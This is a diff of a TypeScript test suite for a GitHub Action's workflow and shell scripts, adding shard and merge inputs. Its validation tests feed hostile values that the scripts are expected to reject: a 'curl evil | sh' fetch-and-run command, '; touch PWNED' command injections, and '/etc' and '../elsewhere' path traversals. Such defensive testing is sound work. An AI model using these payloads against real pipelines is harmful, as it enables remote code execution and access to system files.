@@ -63,7 +63,11 @@ describe('action.yml', () => {
     for (const step of keeping) {
       expect(step.if).toMatch(/^always\(\) && /);
       expect(step.if).toContain("steps.inputs.outputs.is-fork == 'false'");
+      // A part of the cells is no store to begin with.
+      expect(step.if).toContain("inputs.shard == ''");
     }
+    const handing = steps.find(({ name }) => name === 'Hand over what the shard drew')!;
+    expect(handing.if).toBe("always() && inputs.shard != '' && steps.inputs.outputs.is-fork == 'false'");
     // Restored from its own ref and from the trusted branch, from nowhere else.
     const restored = steps.find(({ uses }) => uses?.startsWith('actions/cache/restore'))!;
     expect(restored.with!['restore-keys']!.trim().split(/\s*\n\s*/)).toEqual([
@@ -96,6 +100,7 @@ type Job = {
 const INPUTS = {
   ...{ EVENT: 'pull_request', REF: 'refs/pull/7/merge', HEAD_REPOSITORY: 'us/repo', FOLDER: '.' },
   ...{ BUDGET_USD: '1', INSTALL: 'npm-ci', STORE: 'cache', TRUSTED_BRANCH: 'main' },
+  ...{ SHARD: '', MERGE: '' },
 };
 
 /** A checkout, and a runner as far as scripts can see it. */
@@ -160,11 +165,17 @@ describe('the steps of the action', () => {
       own: 'expgraph-.-refs/pull/7/merge-',
       trusted: 'expgraph-.-refs/heads/main-',
       artifact: 'expgraph-store-.',
+      shard: 'expgraph-shard-.',
       reports: 'expgraph-report-.',
     });
     const fork = job();
     fork.step('inputs.sh', { ...INPUTS, HEAD_REPOSITORY: 'them/repo' });
     expect(fork.outputs()['is-fork']).toBe('true');
+    const part = job();
+    part.step('inputs.sh', { ...INPUTS, SHARD: '2/4' });
+    expect(part.outputs()).toMatchObject({
+      ...{ shard: 'expgraph-shard-.-2-of-4', reports: 'expgraph-report-.-2-of-4' },
+    });
   });
 
   it.each([
@@ -173,6 +184,10 @@ describe('the steps of the action', () => {
     ['STORE', 'disk'],
     ['INSTALL', 'curl evil | sh'],
     ['BUDGET_USD', '1; touch PWNED'],
+    ['SHARD', '2'],
+    ['SHARD', '1/2; touch PWNED'],
+    ['MERGE', '../elsewhere'],
+    ['MERGE', '/etc'],
     ['FOLDER', '../elsewhere'],
     ['FOLDER', '/etc'],
     ['FOLDER', 'nowhere'],
@@ -188,7 +203,7 @@ describe('the steps of the action', () => {
     const { folder, step, outputs } = job();
     await sample(folder, 'latency_ms: 0, latency_spread: 0');
     const run = step('run.sh', {
-      ...{ FOLDER: '.', MANIFEST: '', BUDGET_USD: '1', IS_FORK: 'false' },
+      ...{ FOLDER: '.', MANIFEST: '', BUDGET_USD: '1', IS_FORK: 'false', SHARD: '', MERGE: '' },
       ARGUMENTS: '--scenario\nambiguous:*\n--variant\nbaseline; touch PWNED\n',
     });
     // Arguments are words and no script: there is no variant of that name, which is a mistake.
@@ -198,7 +213,7 @@ describe('the steps of the action', () => {
       false,
     ]);
     const good = step('run.sh', {
-      ...{ FOLDER: '.', MANIFEST: 'experiment.yaml', BUDGET_USD: '', IS_FORK: 'false' },
+      ...{ FOLDER: '.', MANIFEST: 'experiment.yaml', BUDGET_USD: '', IS_FORK: 'false', SHARD: '', MERGE: '' },
       ARGUMENTS: '--scenario\nambiguous:*',
     });
     expect([good.status, outputs()['exit-code']], good.said).toEqual([0, '0']);
@@ -210,7 +225,7 @@ describe('the steps of the action', () => {
     const { folder, step, outputs } = job();
     await sample(folder);
     const { said } = step('run.sh', {
-      ...{ FOLDER: '.', MANIFEST: '', BUDGET_USD: '1', IS_FORK: 'true' },
+      ...{ FOLDER: '.', MANIFEST: '', BUDGET_USD: '1', IS_FORK: 'true', SHARD: '', MERGE: '' },
       ARGUMENTS: '',
     });
     expect(outputs()['exit-code']).toBe('1');
